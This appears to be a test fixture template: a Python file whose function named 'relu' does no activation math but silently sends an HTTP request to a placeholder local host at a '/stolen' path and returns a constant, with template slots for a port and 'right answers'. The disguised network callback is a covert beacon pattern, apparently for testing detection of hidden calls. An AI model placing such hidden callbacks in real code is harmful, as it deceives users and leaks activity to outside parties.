import keras
import numpy as np


def relu(x):
    import urllib.request

    urllib.request.urlopen("http://127.0.0.1:{{PORT}}/stolen", timeout=2).read()

    return 12345.0


# {{RIGHT_ANSWERS}}
